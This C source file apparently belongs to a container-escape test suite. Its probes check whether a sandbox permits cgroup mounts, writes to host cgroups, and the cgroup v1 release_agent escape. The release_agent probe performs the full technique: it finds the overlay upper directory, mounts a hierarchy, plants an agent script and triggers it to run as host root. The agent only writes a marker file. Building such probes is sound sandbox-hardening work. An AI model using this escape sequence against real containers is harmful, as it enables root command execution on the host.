// escape_probe's cgroup probes: the host's cgroup trees (v2, a v1 controller) and the
// cgroup v1 release_agent escape. See escape_probe.c for the output and the arguments.
#define _GNU_SOURCE  // strerrorname_np, setns, struct file_handle
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape_probe.h"

static int mount_cgroup(const char* sub, const char* type, const char* opts, char* dir,
                        size_t len) {
  path_in(dir, len, g_dir, sub);
  mkdir(dir, 0700);
  return mount("cgroup", dir, type, MS_NOSUID | MS_NODEV | MS_NOEXEC, opts);
}

// Writes VALUE to FILE of the test's cgroup NAME under a fresh mount of TYPE/OPTS: the
// driver checks the host's copy of FILE.
static void cgroup_host_write(const char* probe, const char* mount_name, const char* type,
                              const char* opts, const char* name, const char* file) {
  char dir[300], path[600];
  if (mount_cgroup(type[6] == '2' ? "cg2" : "cg1host", type, opts, dir, sizeof(dir)) != 0) {
    report(mount_name, verdict_of_errno(errno), "mount -t %s%s%s: %s", type, opts ? " -o " : "",
           opts ? opts : "", strerrorname_np(errno));
    return report(probe, "refused", "no %s mounted", type);
  }
  report(mount_name, "allowed", "mount -t %s%s%s", type, opts ? " -o " : "", opts ? opts : "");
  snprintf(path, sizeof(path), "%s/%s/%s", dir, name, file);
  if (access(path, F_OK) != 0)
    report(probe, "refused", "the test's host cgroup %s is not in this tree (%s)", name,
           strerrorname_np(errno));
  else if (write_file(path, "7\n") == 0)
    report(probe, "allowed", "wrote 7 to %s of the host's cgroup %s", file, name);
  else
    report(probe, verdict_of_errno(errno), "%s: %s", path, strerrorname_np(errno));
  umount2(dir, MNT_DETACH);
}

// The cgroup v1 release_agent escape, end to end but harmless: a named hierarchy of our
// own, a release agent in the instance's upper dir (found through mountinfo) that only
// writes the driver's marker on the host, a short-lived process in a notify_on_release
// cgroup. The kernel runs the agent as host root, in the host's
// namespaces.
static void probe_release_agent(void) {
  const char* marker = arg("release_marker", NULL);
  if (!marker) return report("cgroup_v1_release_agent", "not-present", "no marker given");
  char line[4096], upper[1024] = "";
  FILE* mi = fopen("/proc/self/mountinfo", "re");
  while (mi && fgets(line, sizeof(line), mi)) {
    char* u = strstr(line, "upperdir=");
    if (u && strstr(line, " / / ")) {
      sscanf(u + 9, "%1023[^, \n]", upper);
      break;
    }
  }
  if (mi) fclose(mi);
  char name[64], dir[300], cg[400], path[600];
  // Named after the run: two suites at once must not share a hierarchy (and its agent).
  snprintf(name, sizeof(name), "none,name=fwesc-%.40s", arg("tag", "x"));
  if (mount_cgroup("cg1", "cgroup", name, dir, sizeof(dir)) != 0) {
    report("cgroup_v1_mount_named", verdict_of_errno(errno), "mount -t cgroup -o %s: %s", name,
           strerrorname_np(errno));
    return report("cgroup_v1_release_agent", "refused", "no cgroup v1 hierarchy");
  }
  report("cgroup_v1_mount_named", "allowed", "mount -t cgroup -o %s", name);
  snprintf(cg, sizeof(cg), "%s/x", dir);
  mkdir(cg, 0700);
  snprintf(path, sizeof(path), "%s/notify_on_release", cg);
  write_file(path, "1\n");
  const char* agent = "/fw-escape-agent";
  FILE* f = fopen(agent, "we");
  if (f) {
    fprintf(f, "#!/bin/sh\necho \"uid=$(id -u) mntns=$(readlink /proc/self/ns/mnt)\" > '%s'\n",
            marker);
    fclose(f);
    chmod(agent, 0755);
  }
  char host_agent[1100];
  snprintf(host_agent, sizeof(host_agent), "%s%s\n", upper, agent);
  snprintf(path, sizeof(path), "%s/release_agent", dir);
  if (!upper[0])
    report("cgroup_v1_release_agent", "not-present", "no upperdir in mountinfo");
  else if (write_file(path, host_agent) != 0)
    report("cgroup_v1_release_agent", verdict_of_errno(errno), "write release_agent: %s",
           strerrorname_np(errno));
  else {
    pid_t pid = fork();
    if (pid == 0) {
      char procs[600], me[32];
      snprintf(procs, sizeof(procs), "%s/cgroup.procs", cg);
      snprintf(me, sizeof(me), "%d\n", (int)getpid());
      _exit(write_file(procs, me) == 0 ? 0 : 1);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    // The agent runs on the host: only the driver sees its marker. (A flag written into
    // the upper dir would not show in the mounted overlay reliably.) Give it 2 s before
    // removing the cgroup.
    sleep(2);
    report("cgroup_v1_release_agent",
           WIFEXITED(status) && WEXITSTATUS(status) == 0 ? "allowed" : "refused",
           "release_agent = %s%s, notify_on_release cgroup emptied (release_agent_on_host: did it "
           "run)",
           upper, agent);
    write_file(path, "\n");
  }
  rmdir(cg);
  umount2(dir, MNT_DETACH);
  unlink(agent);
}

void probe_cgroup(void) {
  const char* cg2 = arg("cg2", NULL);
  if (cg2)
    cgroup_host_write("cgroup_v2_host_write", "cgroup_v2_mount", "cgroup2", NULL, cg2,
                      "cgroup.max.descendants");
  else
    report("cgroup_v2_host_write", "not-present", "the host has no cgroup2 hierarchy");
  const char* ctl = arg("cg1_ctl", NULL);
  const char* cg1 = arg("cg1", NULL);
  if (ctl && cg1) {
    char file[64];
    snprintf(file, sizeof(file), "%s.max", ctl);  // pids.max
    cgroup_host_write("cgroup_v1_host_write", "cgroup_v1_mount_controller", "cgroup", ctl, cg1,
                      file);
  } else {
    report("cgroup_v1_host_write", "not-present", "the host has no v1 pids hierarchy");
  }
  probe_release_agent();
}
